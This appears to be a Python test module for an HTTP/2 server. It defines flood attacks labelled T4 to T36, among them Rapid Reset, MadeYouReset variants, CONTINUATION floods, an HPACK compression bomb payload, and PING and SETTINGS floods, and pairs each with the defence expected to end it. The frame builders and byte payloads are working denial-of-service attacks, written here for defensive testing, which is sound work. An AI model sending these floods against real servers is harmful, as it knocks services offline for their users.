"""The attacks of the checks T4 to T36, each with the defence that ends it."""

import dataclasses
import struct
import typing

from hostile.wire import *

UPLOAD = END_HEADERS  # HEADERS that data follow.


@dataclasses.dataclass
class Flood:
    """Frames without end, each legal or nearly so."""
    check: str
    name: str
    # Under which name the server counts what it refused.
    reason: str
    # Frames of one round; what comes before the first.
    round: typing.Callable
    opening: bytes = b""
    # How many are sent, if the server takes them.
    rounds: int = 20_000
    # What the last GOAWAY says.
    code: int = ENHANCE_YOUR_CALM
    # The defences without which it goes on.
    without: tuple = ()
    reads: bool = True
    # Whether it takes our settings over; whether all of it lies in one header block.
    acknowledges: bool = True
    in_block: bool = False
    # After so many a server without the defence is still there.
    survives: int = 3000

    def __str__(self):
        return f"{self.check} {self.name}"

    def _wire(self, port):
        # Nothing may be sent within a header block, not even an acknowledgement of settings.
        opening = settings() + (settings(flags=ACK) if self.acknowledges else b"") + self.opening
        return Wire(port, opening, reads=self.reads, answers=False)

    def run(self, port):
        """The connection, which has ended or has taken all of the rounds."""
        wire = self._wire(port)
        for start in range(0, self.rounds, 500):
            part = range(start, min(start + 500, self.rounds))
            if not wire.send(b"".join(self.round(index) for index in part)) or wire.ended_at:
                break
        return wire

    def crawl(self, port):
        """The same in small steps, each of which the server has taken before the next.

        Else the library's own limits, on answers that wait, end what ours let pass.
        """
        wire = self._wire(port)
        for start in range(0, self.survives, 40):
            part = range(start, min(start + 40, self.survives))
            wire.send(b"".join(self.round(index) for index in part))
            if not self.in_block and not wire.is_alive():
                break
        return wire


def made_you_reset(index):
    stream = stream_number(index)
    return headers(stream, call(), UPLOAD) + window_update(stream, 0x7FFFFFFF)


def rapid_reset(index):
    stream = stream_number(index)
    return headers(stream, call(), UPLOAD) + data(stream, message(), END_STREAM) + reset(stream)


def malformed(*fields, authority="test"):
    return lambda index: headers(stream_number(index), call("EmptyCall", *fields, authority=authority))


# An empty field enters the table, then each byte is one more of it.
BOMB = b"\x40\x01a\x00" + b"\xbe" * 16_000
# 4,000 bytes enter the table, then each byte is as many.
LONG = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 10_000

RESETS = [
    Flood("T4", "Rapid Reset", "too_many_resets", rapid_reset, without=("resets",),
          # The library has a limit of its own.
          survives=900),
    Flood("T6", "MadeYouReset: a window that overflows", "too_many_mistakes", made_you_reset,
          without=("mistakes", "windowUpdates", "refusedStreams")),
    Flood("T6", "MadeYouReset: an increment of nothing", "protocol_error",
          lambda i: headers(stream_number(i), call(), UPLOAD) + window_update(stream_number(i), 0),
          code=PROTOCOL_ERROR),
    Flood("T6", "MadeYouReset: PRIORITY of four bytes", "frame_size_error",
          lambda i: headers(stream_number(i), call(), UPLOAD)
          + frame(PRIORITY, 0, stream_number(i), b"\0\0\0\0"), code=6, rounds=40),
    Flood("T6", "MadeYouReset: a stream that depends on itself", "protocol_error",
          lambda i: headers(stream_number(i), call(), UPLOAD)
          + priority(stream_number(i), stream_number(i)), code=PROTOCOL_ERROR),
    Flood("T6", "MadeYouReset: HEADERS after the end", "stream_closed",
          lambda i: headers(stream_number(i), call()) + headers(stream_number(i), call()), code=5),
    Flood("T6", "MadeYouReset: DATA after the end", "stream_closed",
          lambda i: headers(stream_number(i), call()) + data(stream_number(i), b"x"), code=5),
]

MISTAKES = [
    Flood("T7", f"malformed requests: {name}", "too_many_mistakes", malformed(*fields),
          without=("mistakes",))
    for name, fields in {
        "upper case": [("X-Upper", "1")], "two paths": [(":path", "/")],
        "a NUL": [("x", "a\0b")], "connection": [("connection", "close")],
        "a bad name": [("a b", "c")]}.items()
] + [
    Flood("T31", "user information", "too_many_mistakes", malformed(authority="u@h"),
          without=("mistakes",)),
    Flood("T16", "empty DATA", "too_many_mistakes", lambda i: data(1),
          headers(1, call(), UPLOAD), without=("mistakes",)),
    Flood("T16", "empty HEADERS", "too_many_mistakes", lambda i: headers(stream_number(i), b""),
          without=("mistakes",)),
    Flood("T16", "empty CONTINUATION", "too_many_continuations",
          lambda i: frame(CONTINUATION, 0, 1), headers(1, call(), END_STREAM),
          without=("continuations",), in_block=True, survives=900),
    Flood("T17", "PRIORITY", "too_many_mistakes",
          lambda i: priority(stream_number(i % 1000), stream_number((i + 1) % 1000)),
          rounds=500_000, without=("mistakes",)),
    *[Flood("T17", f"frames of type {kind:#x}", "too_many_mistakes",
            lambda i, kind=kind: frame(kind, 0, 0, b"\0\0\0\0\0\0"), without=("mistakes",))
      for kind in (PRIORITY_UPDATE, 0x77, 0x0A, 0x0C)],
]

HEADER_BLOCKS = [
    Flood("T8", "CONTINUATION", "too_many_continuations",
          lambda i: frame(CONTINUATION, 0, 1, literal(f"x-{i}", "y")), headers(1, call(), END_STREAM),
          without=("continuations", "headerList"), in_block=True, survives=900),
    Flood("T11", "HTTP/2 Bomb", "header_list_too_large",
          lambda i: headers(stream_number(i), call() + BOMB), rounds=100,
          without=("headerList", "mistakes"), survives=50),
    Flood("T12", "one long field, again and again", "header_list_too_large",
          lambda i: headers(stream_number(i), call() + LONG), rounds=100,
          without=("headerList", "mistakes"), survives=5),
]

CONTROL = [
    Flood("T14", "PING, answers read", "too_many_pings", lambda i: ping(), without=("pings",)),
    Flood("T14", "PING, answers not read", "too_many_pings", lambda i: ping(), reads=False,
          rounds=500_000, without=("pings",)),
    Flood("T15", "SETTINGS, answers read", "too_many_settings", lambda i: settings([(3, i)]),
          without=("settings",)),
    Flood("T15", "SETTINGS, answers not read", "too_many_settings", lambda i: settings([(3, i)]),
          reads=False, rounds=500_000, without=("settings",)),
    Flood("T15", "SETTINGS of 33 entries", "enhance_your_calm",
          lambda i: settings([(0x100 + n, 1) for n in range(33)]), rounds=10),
    Flood("T18", "WINDOW_UPDATE", "too_many_window_updates", lambda i: window_update(0, 1),
          without=("windowUpdates",)),
    Flood("T25", "streams beyond the limit", "too_many_refused_streams",
          lambda i: headers(stream_number(i), call(), UPLOAD), acknowledges=False,
          without=("refusedStreams",), survives=5000),
    Flood("T25", "streams beyond the limit that was acknowledged", "too_many_refused_streams",
          lambda i: headers(stream_number(i), call(), UPLOAD), without=("refusedStreams",),
          survives=5000),
]

FLOODS = RESETS + MISTAKES + HEADER_BLOCKS + CONTROL
